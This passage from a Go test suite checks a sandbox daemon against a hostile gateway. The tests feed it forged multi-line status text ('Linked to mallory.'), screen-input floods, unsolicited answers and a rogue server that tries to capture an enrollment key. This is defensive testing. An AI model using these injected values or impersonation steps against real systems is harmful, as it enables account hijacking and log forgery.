while true do sleep(1) end
`

// TestAHostileHelloAnswerIsShownInOneLine: the hello's answer is the gateway's first word, and
// sandbox status shows what it said (the account, in the shape of a gateway's accounts only, a
// refusal, a hello error). Each is one line of at most 256 bytes, a field of the wrong type is
// left out, and the daemon counts no fault:
// a gateway cannot print lines of its own making under the computer's status.
func TestAHostileHelloAnswerIsShownInOneLine(t *testing.T) {
	long := strings.Repeat("x", 2000)
	answer := func(ok bool, field string, value any) func(messageID, traposID string) any {
		return func(messageID, traposID string) any {
			return map[string]any{"event": harness.EventGatewayResponse, "traposReceiverId": traposID,
				"messageId": messageID, "type": harness.TypeHello, "ok": ok, field: value}
		}
	}
	for _, tc := range []struct {
		name   string
		answer func(messageID, traposID string) any
		shows  string // in the status, its rows joined
		state  string // "": not checked
	}{
		// An account named as no account of a gateway is (a-z0-9 then ._-) is not shown at
		// all (client 0.5.43): the status goes from the traposId to the proof.
		{"an account of many lines", answer(true, "payload", map[string]any{"accountId": "alice\nLinked to mallory.\n" + long,
			"credentialKind": "issued\nfake", "livenessMs": "soon"}),
			"traposId: 0: proof:", "state: connected"},
		{"fields of the wrong type", answer(true, "payload", map[string]any{"accountId": map[string]any{"a": 1},
			"credentialKind": 5, "servedClient": "0.9.9", "livenessMs": -5}), "lastError: none", "state: connected"},
		{"a refusal of many lines", answer(false, "error", map[string]any{"code": "unauthorized", "message": "no\nLinked to mallory.\n" + long}),
			"lastError: unauthorized: no Linked to mallory. xxx", "state: unauthorized"},
		{"an error that is a string", answer(false, "error", "boom\nLinked to mallory."),
			// waiting, or trying again already on a slow machine: said either way
			"hello failed: internal: boom Linked to mallory.", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx := testContext(t)
			h := harness.StartHostileGateway(t)
			h.HelloAnswer = tc.answer
			c, _, _ := hostileComputer(ctx, t, h, helloStatusProgram)
			c.WaitFor(ctx, markerAsked)
			rows := lines(c.Output())
			joined := unwrapped(c.Output())
			assert.Contains(t, joined, tc.shows)
			if tc.state != "" {
				assert.Contains(t, joined, tc.state)
			}
			assert.Contains(t, rows, "e2e: faults 0")
			assert.False(t, slices.Contains(rows, "Linked to mallory."), "a line of the gateway's own making")
			assert.NotContains(t, joined, "fake")
			assert.Less(t, len(joined), 1500, "the gateway's words are cut:\n%s", joined)
		})
	}
}

// TestScreenInputsAtOnceCannotStarveASleepingProgram: a screen.input queues at most 128 os
// events, half of CC's queue of 256, so that one cannot push the computer's own events out;
// but a gateway that sent several at once, each queued as the daemon read it, filled the
// queue, and a sleeping program's timer that fired then was lost: it never woke. The
// daemon now takes a screen.input only once the events of the one before it have left the
// queue, and answers one that comes sooner busy.
func TestScreenInputsAtOnceCannotStarveASleepingProgram(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	const settings = `{ ["sandbox.allow_screen"] = "control" }`
	c, side, _ := hostileComputerWith(ctx, t, h, sleeperProgram, nil, map[string]string{"/.settings": settings})
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	chars := map[string]any{"events": []map[string]any{{"type": "char", "text": strings.Repeat("x", 128)}}}
	woke := make(chan struct{})
	go func() {
		defer close(woke)
		c.WaitFor(waitCtx, markerWoke)
	}()
	busy := 0
	for round := 0; ; round++ {
		select {
		case <-woke:
			require.NoError(t, waitCtx.Err(), "the sleeper never woke; transcript:\n%s", c.Output())
			t.Logf("%d rounds of 4 inputs at once before the sleeper woke; %d answered busy", round, busy)
			assert.Positive(t, busy, "inputs sent at once are refused busy")
			return
		default:
		}
		ids := make([]string, 4)
		for i := range ids {
			ids[i] = fmt.Sprintf("in-%d-%d", round, i)
			require.NoError(t, side.Request(ids[i], "screen.input", chars))
		}
		for _, id := range ids {
			answer, err := side.Answer(waitCtx, id)
			require.NoError(t, err, "transcript:\n%s", c.Output())
			if answer.Error != nil && answer.Error.Code == "busy" {
				busy++
			}
		}
	}
}

// notProvedLinkProgram waits until the daemon has found that the server at its URL did not
// prove itself, then runs sandbox link with an enrollment key and prints what sandbox.password
// holds.
const notProvedLinkProgram = `
local lib = require('/apis/libsandbox')
while true do
  local st = lib.requestStatus()
  if st ~= nil and tostring(st.lastError):find("did not prove", 1, true) then break end
  sleep(0.2)
end
print("` + markerUp + `")
shell.run("sandbox", "link", "tsk_k1_S3cretKeyPart")
print("e2e: password " .. tostring(settings.get("sandbox.password")))
print("` + markerAsked + `")
while true do sleep(1) end
`

// TestLinkAsksForTheProofTheDaemonAsksFor: a computer whose gateway proved itself here says no
// hello to a server that does not prove itself, but sandbox link opened its session to
// whatever answered at sandbox.url, unproven: a program holding the gateway's port got the
// enrollment key the player typed, and its "approved" answer's credential became
// sandbox.password; the daemon's next prove named that credential, whose proof the program
// could make, and the computer was its, files, exec and screen as the owner allowed them the
// gateway. The link session now asks for the proof the daemon asks for, and sends nothing more
// to a server that does not give it.
func TestLinkAsksForTheProofTheDaemonAsksFor(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	// The computer's record says the gateway at h's URL proved itself here before.
	record := fmt.Sprintf("{ [%q] = 1765000000000 }", h.URL())
	opts := computerOptionsAt(t, h.URL(), "shared", "/e2e.lua")
	opts.Overlay = t.TempDir()
	opts.Files = map[string]string{"/e2e.lua": notProvedLinkProgram, "/" + gatewayProofsFile: record}
	c := fakecrafttest.StartWithin(t, opts, testTimeout)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	// The server answers every link.begin it gets as the gateway approves a key, with a
	// credential of its own making.
	var mu sync.Mutex
	var begun []harness.Frame
	var wg sync.WaitGroup
	defer wg.Wait()
	defer cancel()
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			side, err := h.Accept(waitCtx)
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				asked, err := side.Requests(waitCtx, 1)
				if err != nil || asked[0].Type != "link.begin" {
					return
				}
				mu.Lock()
				begun = append(begun, asked[0])
				mu.Unlock()
				_ = side.Respond(asked[0], map[string]any{"state": "approved", "account": "mallory",
					"approvedBy": "mallory", "credential": "tsc_m1_MalloryOwnsThis"}, nil)
			}()
		}
	}()

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	joined := strings.Join(lines(out), " ")
	assert.Contains(t, lines(out), "e2e: password shared", "sandbox.password stays as it was")
	assert.NotContains(t, joined, "Linked to mallory")
	assert.Contains(t, joined, "Not linked: the server at "+h.URL()+" did not prove it is the gateway this computer was set up with")
	mu.Lock()
	defer mu.Unlock()
	for _, f := range begun {
		assert.NotContains(t, string(f.Payload), "S3cretKeyPart", "the enrollment key went to a server that did not prove itself")
	}
	assert.Empty(t, begun, "a link.begin went to a server that did not prove itself")
}

// answersProgram, once connected, asks the gateway twice, the first time giving up after a
// second, and prints how each ended.
var answersProgram = askedOnceConnected(`
for i = 1, 2 do
  local ok, payload, err = lib.request("e2e.asked", {}, i == 1 and 1 or 30)
  print("e2e: request " .. i .. ": " .. tostring(ok) .. " " .. tostring(payload and payload.answer) .. " " .. tostring(err and err.code))
end
`)

// TestAnswersTheComputerNeverAskedForReachNoProgram: a gateway's answers that match no
// request in flight (a messageId never sent, the id of a request its program gave up on, a
// second answer to one already answered, a computer_response echoed back) reach no program:
// each request gets its own answer, once, and the daemon stays connected.
func TestAnswersTheComputerNeverAskedForReachNoProgram(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, answersProgram)

	first, err := side.Requests(waitCtx, 1)
	require.NoError(t, err, c.Output())
	forged := harness.Frame{MessageID: "never-sent", Type: "e2e.asked"}
	require.NoError(t, side.Respond(forged, map[string]any{"answer": "forged"}, nil))
	c.WaitFor(waitCtx, "e2e: request 1: false nil timeout")

	asked, err := side.Requests(waitCtx, 2)
	require.NoError(t, err, c.Output())
	second := asked[1]
	require.NotEqual(t, first[0].MessageID, second.MessageID)
	// The answer to the request given up on comes late, and one echoed as the computer's own.
	require.NoError(t, side.Respond(first[0], map[string]any{"answer": "late"}, nil))
	require.NoError(t, side.WriteJSON(map[string]any{"event": harness.EventComputerResponse, "traposSenderId": side.TraposID,
		"messageId": second.MessageID, "type": "e2e.asked", "ok": true, "payload": map[string]any{"answer": "echoed"}}))
	require.NoError(t, side.Respond(second, map[string]any{"answer": "real"}, nil))
	require.NoError(t, side.Respond(second, map[string]any{"answer": "again"}, nil))

	c.WaitFor(waitCtx, markerAsked)
	// A ping answered after it all: the daemon read every frame, and is still connected.
	require.NoError(t, side.Request("after", harness.TypePing, map[string]any{}))
	ping, err := side.Answer(waitCtx, "after")
	require.NoError(t, err, c.Output())
	assert.True(t, ping.OK != nil && *ping.OK)
	out := c.Output()
	assert.Contains(t, lines(out), "e2e: request 2: true real nil")
	for _, word := range []string{"forged", "late", "echoed", "again"} {
		assert.NotContains(t, out, word)
	}
}

// unprovenRevokedLinkProgram waits until the daemon has read the server's "revoked" without
// the gateway's proof of it, then runs sandbox link for a code and prints what
// sandbox.password holds.
const unprovenRevokedLinkProgram = `
local lib = require('/apis/libsandbox')
while true do
  local st = lib.requestStatus()
  if st ~= nil and tostring(st.lastError):find("gave no proof", 1, true) then break end
  sleep(0.2)
end
print("` + markerUp + `")
shell.run("sandbox", "link")
print("e2e: password " .. tostring(settings.get("sandbox.password")))
print("` + markerAsked + `")
while true do sleep(1) end
`

// TestAnUnprovenRevokedLinksNothing: a program holding the gateway's port while it is down
// refuses the computer's prove in the gateway's words for a revoked credential, without the
// gateway's proof of them. Client 0.5.35 took those words for the gateway's and let a code's
// link go on in a new session without a proof, to that program, which names the account the
// player accepts. The link now goes on only after the gateway proved its refusal: here the
// player reads why not and what to do, and the program gets no hello.
func TestAnUnprovenRevokedLinksNothing(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	const words = "this computer's credential was revoked (link it again with: sandbox link, or set a new credential with: sandbox setup)"
	h.ProveAnswer = func(prove harness.Frame) any {
		return map[string]any{"event": harness.EventGatewayResponse, "traposReceiverId": prove.TraposSenderID,
			"messageId": prove.MessageID, "type": prove.Type, "ok": false,
			"error": map[string]any{"code": "unauthorized", "message": words}}
	}
	record := fmt.Sprintf("{ [%q] = 1765000000000 }", h.URL())
	const credential = "tsc_abcdefghijklm_SecretPartOfIt"
	opts := computerOptionsAt(t, h.URL(), credential, "/e2e.lua")
	opts.Overlay = t.TempDir()
	opts.Files = map[string]string{"/e2e.lua": unprovenRevokedLinkProgram, "/" + gatewayProofsFile: record}
	c := fakecrafttest.StartWithin(t, opts, testTimeout)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	joined := strings.Join(lines(afterLast(out, markerUp)), " ")
	assert.Contains(t, lines(out), "e2e: password "+credential, "sandbox.password stays as it was")
	assert.Contains(t, joined, "Not linked: the server at "+h.URL()+" gave no proof it is the gateway, and says: "+words+
		"; the gateway (0.5.36 on) proves a revoked credential's refusal, so another program may hold its port: ask the gateway's operator;"+
		" if it is the gateway, run sandbox setup (it forgets the proof), then sandbox link")
	assert.NotContains(t, joined, "Link code")
	assert.Zero(t, h.Connections(), "a hello (the link session's) went to a server that did not prove itself")
	assert.GreaterOrEqual(t, h.Proves(), 2, "the daemon's prove and the link session's")
}
